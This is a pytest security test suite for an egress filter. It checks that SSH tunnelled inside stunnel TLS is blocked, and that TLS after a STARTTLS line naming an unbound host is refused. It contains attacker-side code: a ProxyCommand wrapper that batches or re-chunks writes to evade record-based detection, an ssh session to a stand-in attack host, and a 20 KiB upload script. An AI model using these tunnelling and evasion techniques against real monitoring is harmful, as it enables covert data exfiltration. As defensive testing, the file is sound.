"""An attacker who cuts SSH's opening inside TLS on purpose, and TLS after a plaintext opening that names an
unbound host (issue 9's last points): ssh (legacy cipher and MAC, whose packet sizes the 4-mod-8 window does not
see) behind a ProxyCommand that batches the client's first writes (what a loaded stunnel did by chance: one record
for several packets) or re-chunks them into 7-byte writes (hundreds of tiny records, past the watcher's record
budget), inside stunnel with a bound name; blocked at SSH's opening however the records fall
(egress/detect/sshopening.py). And a STARTTLS line, then TLS naming a host that is not bound to the destination
of a host rule's port: refused at its hello with the front's reason (egress/proxy/upgraded.py). Judged by the
capture on the internet side, the attacker's log and the record (docs/security.md, "Opaque streams")."""

from __future__ import annotations

import sys
import time

import pytest

from tests.security.conftest import LabFactory
from tests.security.harness import SecurityLab, report
from tests.security.opaque_kit import ATTACK, POLICY, SSH_OPTIONS, SSH_SESSION, Kit, start_servers, stunnel_client

pytestmark = pytest.mark.security

SSH_TLS = 8443
"""opaque_kit's stunnel → sshd."""
WRAPPER = r"""
import os, select, socket, sys, time
host, port, mode, arg = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
sock = socket.create_connection((host, port))
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
stdin, stdout = sys.stdin.fileno(), sys.stdout.fileno()
pending, flushed = b"", False
while True:
    ready = select.select([stdin, sock], [], [])[0]
    if sock in ready:
        data = sock.recv(65536)
        if not data:
            break
        os.write(stdout, data)
    if stdin in ready:
        data = os.read(stdin, 65536)
        if not data:
            break
        if mode == "batch" and not flushed:  # hold the first writes until arg bytes, then send them as one
            pending += data
            if len(pending) >= arg:
                sock.sendall(pending)
                pending, flushed = b"", True
        elif mode == "batch":
            sock.sendall(data)
        else:  # "recut": arg-byte writes, each on its own (stunnel makes each a record)
            step = int(arg)
            for at in range(0, len(data), step):
                sock.sendall(data[at : at + step])
                time.sleep(0.002)
"""
"""The attacker's ProxyCommand between ssh and the local stunnel client."""


CUTS = {
    # the first writes held until 512 bytes: the identification and KEXINIT in one record (what a loaded stunnel
    # did to the server's: the one-packet-per-record reading misses it)
    "batched-writes": ("batch", "512", 6210, 4096),
    # 7-byte writes: every packet of the opening over many tiny records (over 300 client records)
    "recut-7-bytes": ("recut", "7", 6211, 16384),
}
"""Variant: (wrapper mode, its argument, the stunnel client's local port, bound on bytes to the server: the TLS
handshake and SSH's clear opening, with 22 bytes of TLS per record when cut into tiny ones)."""


@pytest.fixture(scope="module")
def cuts(lab_factory: LabFactory) -> tuple[SecurityLab, Kit]:
    lab = lab_factory(POLICY)
    kit = start_servers(lab)
    (kit.root / "wrapper.py").write_text(WRAPPER)
    return lab, kit


def bind_ssh_lab(lab: SecurityLab) -> None:
    """Resolve ssh.lab in the sandbox (binds it to 198.18.10.7 for this sandbox for its 60 s TTL)."""
    lab.sandbox(["dig", "+short", "@10.203.1.1", "ssh.lab"])


@pytest.mark.parametrize("variant", list(CUTS))
def test_ssh_inside_tls_whose_client_cuts_its_writes_is_blocked_at_its_opening(
    cuts: tuple[SecurityLab, Kit], variant: str
) -> None:
    lab, kit = cuts
    mode, arg, local, bound = CUTS[variant]
    bind_ssh_lab(lab)
    client = stunnel_client(lab, kit, variant, local, f"{ATTACK}:{SSH_TLS}", "ssh.lab")
    proxy = f"{sys.executable} {kit.root / 'wrapper.py'} 127.0.0.1 {local} {mode} {arg}"
    ssh = ["ssh", *SSH_OPTIONS, "-tt", "-c", "aes128-ctr", "-m", "hmac-sha2-256", "-i", str(kit.user_key),
           "-o", f"ProxyCommand={proxy}", "root@ssh-through-wrapper"]  # fmt: skip
    since = time.time()
    with lab.capture(f"ssh-{variant}") as capture:
        done = lab.sandbox_python(SSH_SESSION, *ssh, timeout=60)
    client.stop()
    crossed = capture.result
    assert crossed is not None
    goal = "shell answered" in done.stdout
    leaked = crossed.bytes_to(ATTACK, SSH_TLS, "tcp")
    reason = lab.reason_of(since, lambda r: r.dst == ATTACK and r.dport == SSH_TLS and r.protocol == "ssh-in-tls")
    found = [r.evidence[:60] for r in lab.records(since) if r.dst == ATTACK and r.dport == SSH_TLS] or ["-"]
    report(f"opaque/stunnel-ssh-{variant}", "tunnel", leaked, goal, reason,
           f"bytes = TLS handshake + SSH's opening to SERVICE_REQUEST; read: {found[0]}")  # fmt: skip
    assert not goal, done.stdout
    assert reason == "tunnel", (reason, done.stdout)
    assert leaked < bound, crossed.table()


UPGRADING = r"""
import socket, ssl, sys
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
host, port, name, starttls = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4] == "1"
try:
    sock = socket.create_connection((host, port), timeout=10)
    if starttls:
        sock.sendall(b"STARTTLS\r\n")
        answer = b""
        while not answer.endswith(b"\n"):
            piece = sock.recv(1)
            if not piece:
                raise ConnectionError(f"closed after {answer!r}")
            answer += piece
    tls = context.wrap_socket(sock, server_hostname=name)
    tls.sendall(bytes(20480))
    print("uploaded", 20480, flush=True)
    tls.close()
except (OSError, ValueError) as error:
    print("failed", error, flush=True)
"""
STARTTLS_LINE = len(b"STARTTLS\r\n")
UNBOUND = "allowed.lab"
"""A name the policy allows (on other ports) that the resolver never answered 198.18.10.7 for: not bound there."""


def test_tls_after_starttls_naming_an_unbound_host_is_refused_at_its_hello(cuts: tuple[SecurityLab, Kit]) -> None:
    """A STARTTLS line to ssh.lab's own port 8453, then TLS naming a host not bound to the address: refused at the
    hello with the reason the front gives the same hello sent directly (the control, to the host rule's 8452),
    and nothing past the STARTTLS line crosses (before: the hello and 16 KiB after it reached the server)."""
    lab, _ = cuts
    bind_ssh_lab(lab)
    since = time.time()
    direct = lab.sandbox_python(UPGRADING, ATTACK, "8452", UNBOUND, "0")
    front = lab.reason_of(since, lambda r: r.dst == ATTACK and r.dport == 8452)
    assert front, ("the front records an unbound name", direct.stdout)
    server = next(p for p in lab.processes if p.name == "starttls")
    before = len(server.log())
    since = time.time()
    with lab.capture("starttls-unbound") as capture:
        done = lab.sandbox_python(UPGRADING, ATTACK, "8453", UNBOUND, "1")
    crossed = capture.result
    assert crossed is not None
    leaked = crossed.bytes_to(ATTACK, 8453, "tcp")
    goal = "upgraded after" in server.log()[before:] or "uploaded" in done.stdout
    reason = lab.reason_of(since, lambda r: r.dst == ATTACK and r.dport == 8453)
    report("opaque/starttls-unbound-sni-host-port", "tunnel", leaked, goal, reason,
           f"bytes = the STARTTLS line ({STARTTLS_LINE}); the front's reason for the same hello: {front}")  # fmt: skip
    assert reason == front, (reason, front, done.stdout)
    assert leaked <= STARTTLS_LINE, crossed.table()
    assert not goal, (done.stdout, server.log()[before:])
